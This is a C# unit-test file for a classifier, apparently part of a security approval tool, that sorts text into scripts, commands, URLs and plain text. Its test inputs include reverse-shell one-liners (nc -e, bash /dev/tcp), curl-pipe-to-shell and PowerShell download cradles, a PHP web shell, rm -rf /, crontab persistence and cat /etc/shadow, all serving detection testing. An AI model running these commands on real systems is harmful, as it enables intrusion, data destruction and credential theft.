using ApprovalGuard.Detection.Payloads.Judging;

namespace ApprovalGuard.Core.Tests.Detection.Payloads;

public sealed class TextJudgeTests
{
    [Theory]
    [InlineData("#!/usr/bin/env node\n1")]
    [InlineData("import os\nos.system('id')")]
    [InlineData("print('hello')")]
    [InlineData("console.log('hello')")]
    [InlineData("<?php system($_GET['c']); ?>")]
    [InlineData("<html><script src=\"//x\"></script></html>")]
    [InlineData("Set o = CreateObject(\"WScript.Shell\")")]
    [InlineData("@echo off\r\ndir\r\n")]
    [InlineData("require 'socket'\nTCPSocket.open('203.0.113.5', 4444)")]
    [InlineData("use strict;\nmy $x = 1;")]
    [InlineData("public class A { public static void main(String[] a) {} }")]
    [InlineData("#include <stdio.h>\nint main(void) { return 0; }")]
    [InlineData("cd /tmp\nmkdir a\nrm b\nexport C=1\n")]
    [InlineData("module.exports = 1")]
    [InlineData("os.execute('id')")]
    public void Program_text_is_a_script(string text) => TextJudge.Of(text).Kind.ShouldBe(TextKind.Script);

    [Theory]
    [InlineData("curl -s http://198.51.100.7/x | sh")]
    [InlineData("wget http://198.51.100.7/x -O /tmp/x")]
    [InlineData("nc -e /bin/sh 203.0.113.5 4444")]
    [InlineData("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")]
    [InlineData("powershell -enc AAAA")]
    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')")]
    [InlineData("rm -rf /")]
    [InlineData("echo '* * * * * /tmp/x' | crontab -")]
    [InlineData("echo aGVsbG8= | base64 -d | sh")]
    [InlineData("echo hello")]
    [InlineData("certutil -decode a.txt a.exe")]
    [InlineData("schtasks /create /tn a /tr b")]
    [InlineData("sudo useradd eve")]
    [InlineData("cat /etc/shadow")]
    public void A_command_line_is_a_command(string text) => TextJudge.Of(text).Kind.ShouldBe(TextKind.Command);

    [Theory]
    [InlineData("https://drop.example.net/x")]
    [InlineData("http://198.51.100.7:8080/a?b=c")]
    [InlineData("wss://example.org/socket")]
    [InlineData("198.51.100.7:4444")]
    [InlineData("tcp://[2001:db8::1]:4444")]
    public void An_address_is_a_URL(string text) => TextJudge.Of(text).Kind.ShouldBe(TextKind.Url);

    [Theory]
    [InlineData("The parcel leaves on Monday and arrives two days later.")]
    [InlineData("{\"user\":4711,\"view\":\"orders\",\"open\":true}")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0h24\"/></svg>")]
    [InlineData("http://localhost:3000/a")]
    [InlineData("https://127.0.0.1/")]
    [InlineData("1.2.3.4")]
    [InlineData("12:30:45.123")]
    [InlineData("body { color: red; }")]
    [InlineData("curly hair, shell necklaces and a wgetable example")]
    [InlineData("id,name,price\n1,apple,2.50\n")]
    [InlineData("for example,\nif it rains\nfrom now on\n")]
    [InlineData("")]
    public void Words_data_and_markup_are_plain(string text) => TextJudge.Of(text).Kind.ShouldBe(TextKind.Plain);

    [Fact]
    public void A_link_in_a_text_is_no_URL_by_itself() =>
        TextJudge.Of("Read more about the new delivery times and all prices at https://shop.example.net/times today.").Kind.ShouldBe(TextKind.WithUrl);

    [Fact]
    public void A_document_with_a_command_here_and_there_is_no_script_where_documents_are_expected()
    {
        var document = string.Join('\n', Enumerable.Repeat("The library is described on the page of the project and in the manual that comes with it.", 12)) + "\n    pip install example\n";

        TextJudge.Of(document, allowsProse: true).Kind.ShouldBe(TextKind.Plain);
        TextJudge.Of(document).Kind.ShouldBe(TextKind.Script);
    }

    [Fact]
    public void A_script_with_long_remarks_is_a_script_wherever_it_stands() =>
        TextJudge.Of("#!/bin/sh\n" + string.Concat(Enumerable.Repeat("# remarks that go on and on without saying much at all\n", 40)) + "echo hello\n", allowsProse: true)
            .Kind.ShouldBe(TextKind.Script);

    [Theory]
    [InlineData("https://user@drop.example.net/x", "drop.example.net")]
    [InlineData("ftp://Example.ORG:21/", "example.org")]
    [InlineData("first http://www.w3.org/ns then https://drop.example.net/", "drop.example.net")]
    public void The_host_is_read_from_the_URL(string text, string host) => HiddenUrl.Find(text)!.Value.Host.ShouldBe(host);

    [Theory]
    [InlineData("://drop.example.net")]
    [InlineData("http://${host}/x")]
    [InlineData("http://single/x")]
    [InlineData("notw3.org")]
    public void What_names_no_host_is_no_URL(string text) => HiddenUrl.Find(text).ShouldBeNull();

    [Fact]
    public void A_host_that_only_ends_like_a_harmless_one_is_not_harmless() => HiddenUrl.Find("https://evil-w3.org/x").ShouldNotBeNull();
}
